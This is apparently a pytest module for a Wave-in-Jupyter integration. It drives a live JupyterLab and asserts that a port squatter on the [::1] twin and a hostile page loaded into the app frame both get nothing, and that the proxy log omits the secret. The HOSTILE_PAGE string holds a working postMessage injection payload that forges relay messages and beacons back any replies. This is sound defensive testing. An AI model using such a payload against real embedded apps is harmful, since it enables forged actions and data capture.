"""Attacks on a live notebook, in a real JupyterLab opened as ``http://localhost:…`` under ``/user/test/``, with the
app shown on every rung: another local user squatting the app's ``[::1]`` twin port, a page the comm frame navigates
to, and the proxy's log. One JupyterLab and one page for the whole module."""

from __future__ import annotations

import re

import pytest
from conftest import wait_for
from hostile import Attacker, TwinSquatter
from jupyter_process import JupyterServer
from support import output_text, run_cell, wait_for_kernel, write_notebook

SERVE = '''from h2o_wave import ui
from wave_jupyter import Q, apps, listen
from wave_jupyter.jupyter import view

HOSTILE = 'HOSTILE_URL'

async def serve(q: Q):
    q.client.n = (q.client.n or 0) + (1 if q.args.go else 0)
    q.app.go = (q.app.go or 0) + (1 if q.args.go else 0)
    if q.args.leave:  # a redirect navigates the frame in place, as a link without a target does
        q.page['meta'] = ui.meta_card(box='', redirect=HOSTILE + '?redirect')
    q.page['f'] = ui.form_card(box='1 1 4 6', items=[
        ui.button(name='go', label=f'n={q.client.n}'), ui.button(name='leave', label='Leave'),
        ui.text(f'[markdown away]({HOSTILE}?markdown)'), ui.link(label='link away', path=HOSTILE + '?link')])
    await q.page.save()

listen('/demo', serve)
'''

CELLS = [
    SERVE,
    "view(apps['/demo'], transport='proxy')",
    "view(apps['/demo'], transport='comm')",
    "print('go clicks:', apps['/demo'].state.app.go)",
]

# The page the frame is sent to. It tries the relay as the old bridge spoke it and reports, by beacon, that it ran
# and every message it ever gets.
HOSTILE_PAGE = '''<!doctype html><script>
const beacon = (what) => navigator.sendBeacon('/beacon', what);
window.addEventListener('message', (e) => beacon('got ' + JSON.stringify(e.data)));
for (const m of [{t: 'boot'}, {t: 'open', sid: 'evil', client: null},
                 {t: 'frame', sid: 'evil', data: '@ /demo {"go":true}'},
                 {t: 'http', id: 1, method: 'GET', path: '_f/x', headers: {}, body: new ArrayBuffer(0)}]) {
  parent.postMessage(m, '*');
}
beacon('ran ' + location.search);
</script>hostile page'''


@pytest.fixture(scope='module')
def attacker():
    a = Attacker()
    a.pages['/hostile.html'] = HOSTILE_PAGE
    yield a
    a.close()


@pytest.fixture(scope='module')
def lab(tmp_path_factory, attacker):
    root = tmp_path_factory.mktemp('lab-attacks')
    cells = [c.replace('HOSTILE_URL', f'{attacker.origin}/hostile.html') for c in CELLS]
    write_notebook(root / 'attacks.ipynb', cells)
    server = JupyterServer(root, base_url='/user/test/', extra_args=('--LabApp.expose_app_in_browser=True',))
    yield server
    server.stop()


def app_frame(page, cell: int):
    return page.frame_locator(f'.jp-Notebook .jp-Cell >> nth={cell} >> iframe.wave-jupyter-frame')


def view_of(page, cell: int):
    return page.locator(f'.jp-Notebook .jp-Cell >> nth={cell} >> .wave-jupyter-view')


def test_a_squatter_on_the_ipv6_twin_gets_nothing_and_every_rung_works(browser, lab, attacker):
    squatter = TwinSquatter()  # from here on, every new 127.0.0.1 port's [::1] twin is taken if it can be
    ctx = browser.new_context(viewport={'width': 1300, 'height': 1000})
    page = ctx.new_page()
    page.set_default_timeout(60_000)
    console: list[str] = []
    page.on('console', lambda m: console.append(f'{m.type}: {m.text}'))
    try:
        page.goto(f'http://localhost:{lab.port}/user/test/lab/tree/attacks.ipynb?token={lab.token}')
        page.wait_for_selector('.jp-Notebook .jp-Cell')
        wait_for_kernel(page)
        for cell, rung in enumerate(['direct', 'proxy', 'comm']):
            run_cell(page, cell)
            app_frame(page, cell).locator('text=n=0').wait_for()
            assert view_of(page, cell).get_attribute('data-rung') == rung
            app_frame(page, cell).locator('[data-test=go]').click()
            app_frame(page, cell).locator('text=n=1').wait_for()
        direct = page.locator('.jp-Notebook .jp-Cell >> nth=0 >> iframe').get_attribute('src')
        proxied = page.locator('.jp-Notebook .jp-Cell >> nth=1 >> iframe').get_attribute('src')
        port, secret = re.fullmatch(r'http://127\.0\.0\.1:(\d+)/([^/]+)/demo', direct).groups()
        assert proxied == f'/user/test/proxy/127.0.0.1:{port}/{secret}/demo'  # never by name: never to [::1]
        run_cell(page, 3)
        assert 'go clicks: 3' in output_text(page, 3)

        # The squatter saw the app's port open and tried its twin: it was taken already, and nothing reached it.
        wait_for(lambda: int(port) in squatter.tried, what='the squatter to try the twin')
        assert int(port) not in squatter.held
        assert squatter.seen == []

        # jupyter-server-proxy logged the socket it opened, without the secret (item 4).
        log = lab.log_text()
        assert f'ws://127.0.0.1:{port}/<secret>/_s/' in log
        assert secret not in log
        _the_comm_frame_keeps_its_relay_to_itself(page, ctx, attacker)
    except Exception:
        page.screenshot(path=str(lab.root / 'lab-attacks-failed.png'))
        print('browser console:', *console[-60:], sep='\n  ')
        print(lab.log_text()[-3000:])
        raise
    finally:
        squatter.close()
        ctx.close()


def _the_comm_frame_keeps_its_relay_to_itself(page, ctx, attacker) -> None:
    """Item 2: links leave the comm frame as new tabs; a page the frame is sent to gets no relay."""
    frame = app_frame(page, 2)
    for text, query in [('markdown away', '?markdown'), ('link away', '?link')]:
        with ctx.expect_page() as popup:
            frame.locator(f'text={text}').click()
        tab = popup.value
        tab.wait_for_load_state()
        assert tab.url.endswith(f'/hostile.html{query}')  # an ordinary tab, as on the direct rung
        tab.close()
        frame.locator('text=n=1').wait_for()  # the frame itself stayed on the app
    attacker.seen.clear()
    frame.locator('[data-test=leave]').click()  # the app redirects its own frame to the hostile page
    wait_for(lambda: any(p.startswith('/beacon ran ?redirect') for p in attacker.paths()), timeout=20,
             what='the hostile page to run in the frame')
    app_frame(page, 2).locator('text=n=0').wait_for()  # the view built the app's frame again (a new client)
    assert view_of(page, 2).get_attribute('data-rung') == 'comm'
    app_frame(page, 2).locator('[data-test=go]').click()
    app_frame(page, 2).locator('text=n=1').wait_for()
    run_cell(page, 3)
    assert 'go clicks: 4' in output_text(page, 3)  # the user's click only: the hostile page's "go" never ran
    assert not [p for p in attacker.paths() if p.startswith('/beacon got')], attacker.paths()
